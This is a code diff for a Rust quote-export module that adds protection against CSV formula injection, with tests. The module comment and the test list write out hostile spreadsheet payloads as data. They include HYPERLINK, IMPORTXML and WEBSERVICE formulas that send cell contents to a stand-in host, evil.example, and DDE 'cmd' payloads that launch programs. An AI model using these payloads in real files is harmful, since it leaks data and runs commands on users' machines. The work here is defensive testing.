@@ -1,6 +1,21 @@
 //! Downloads: `export_quotes` as CSV (RFC 4180: header row, CRLF, fields with a comma, a
 //! quote or a line break quoted, quotes doubled) or JSON, built from the items' results in
 //! list order; `generate_pdfs` as the PDF of one quote (`?quote_id=`), from `quote_documents`.
+//!
+//! # Formulas
+//!
+//! A spreadsheet opening the CSV runs any cell that starts with `=`, `+`, `-` or `@` as a
+//! formula (`=HYPERLINK("http://…"&A2, "Fix")` sends the row away; DDE payloads start
+//! programs), and tab or carriage return in front of one are skipped on import. Quote fields
+//! are the user's (and their clients') free text, so, as OWASP's CSV injection guidance says,
+//! such a cell is written with a leading `'`, which spreadsheets show as text and do not
+//! evaluate; then RFC 4180 quoting applies as usual. Input is trimmed when a quote is saved
+//! (`shared::quote`), so a stored value rarely starts with whitespace, but rows written
+//! another way might: whitespace followed by a formula character is treated the same.
+//!
+//! A cell that is a plain number — an optional sign, digits, an optional decimal part
+//! (`-12.50`, `+15035550142`) — is left as it is: it cannot be a formula, and a quote in
+//! front would turn amounts into text. The JSON export is data, not a sheet: unchanged.
 
 use crate::db;
 use crate::{Context, FieldError, Problem, Response};
@@ -29,13 +44,39 @@ pub const CSV_COLUMNS: &[&str] = &[
     "updated_at",
 ];
 
-/// One CSV field: quoted when it holds a comma, a quote, CR or LF; quotes doubled.
+/// One CSV field: a formula made inert (see the module's notes), then quoted when it holds a
+/// comma, a quote, CR or LF; quotes doubled.
 pub fn csv_field(s: &str) -> String {
+    let s = inert(s);
     if s.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
     }
+}
+
+/// Characters that make a spreadsheet read a cell as a formula.
+const FORMULA_START: [char; 4] = ['=', '+', '-', '@'];
+
+/// `s`, with a leading `'` when a spreadsheet would evaluate it.
+fn inert(s: &str) -> std::borrow::Cow<'_, str> {
+    let first = s.chars().next();
+    let after_blanks = s.trim_start_matches([' ', '\t', '\r', '\n']).chars().next();
+    let formula = matches!(first, Some('\t' | '\r'))
+        || first.is_some_and(|c| FORMULA_START.contains(&c))
+        || after_blanks.is_some_and(|c| FORMULA_START.contains(&c));
+    if formula && !is_plain_number(s) {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
+/// An optional sign, digits, and an optional `.` with digits: nothing a spreadsheet could run.
+fn is_plain_number(s: &str) -> bool {
+    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
+    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
+    !int.is_empty() && !frac.is_empty() && int.bytes().all(|b| b.is_ascii_digit()) && frac.bytes().all(|b| b.is_ascii_digit())
 }
 
 fn cell(q: &Value, column: &str) -> String {
@@ -144,5 +185,68 @@ mod tests {
         let mut lines = out.split("\r\n");
         assert_eq!(lines.next().unwrap(), CSV_COLUMNS.join(","));
         assert!(lines.next().unwrap().starts_with("x,,,\"O'Neil, \"\"Bob\"\"\",,,,2,"));
+    }
+
+    /// Formula payloads from OWASP's CSV injection page and public cheat sheets.
+    const FORMULAS: &[&str] = &[
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A2&B2,\"Error: click to fix\")",
+        "=cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-cmd|' /C calc'!A0",
+        "@cmd|' /C calc'!A0",
+        "=2+5+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "+1+1",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+        "=WEBSERVICE(\"http://evil.example/\"&A1)",
+        "=1+1",
+        "=A1",
+        "@A1",
+        "\t=1+1",
+        "\r=1+1",
+        "\t\t-1+1",
+        " =1+1",
+        "\n+A1",
+        "=\"a\",\"b\"",
+        "-",
+        "+",
+        "=",
+        "@",
+    ];
+
+    /// What a spreadsheet sees in a field: RFC 4180 unquoted.
+    fn unquoted(field: &str) -> String {
+        match field.strip_prefix('"').and_then(|f| f.strip_suffix('"')) {
+            Some(inner) => inner.replace("\"\"", "\""),
+            None => field.to_string(),
+        }
+    }
+
+    #[test]
+    fn formula_payloads_are_written_as_text() {
+        for payload in FORMULAS {
+            let seen = unquoted(&csv_field(payload));
+            assert_eq!(seen, format!("'{payload}"), "{payload:?}");
+        }
+    }
+
+    #[test]
+    fn numbers_and_ordinary_text_are_left_alone() {
+        for plain in ["-12.50", "+15035550142", "42", "0.5", "12.50", "O'Brien", "a=b", "e-mail", "x@y.example", "'quoted"] {
+            assert_eq!(unquoted(&csv_field(plain)), plain, "{plain:?}");
+        }
+        // Not numbers: a sign with something else after it.
+        for not_number in ["-12.", "-.5", "+1 555 0100", "-1e5", "-0x10", "--1"] {
+            assert!(unquoted(&csv_field(not_number)).starts_with('\''), "{not_number:?}");
+        }
+    }
+
+    #[test]
+    fn an_inert_formula_with_a_comma_is_still_one_field() {
+        let row = csv(&[json!({"id": "x", "client_name": "=HYPERLINK(\"http://evil.example\",\"a, b\")", "line_items": []})]);
+        let line = row.split("\r\n").nth(1).unwrap();
+        assert!(line.starts_with("x,,,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"a, b\"\")\","), "{line}");
     }
 }
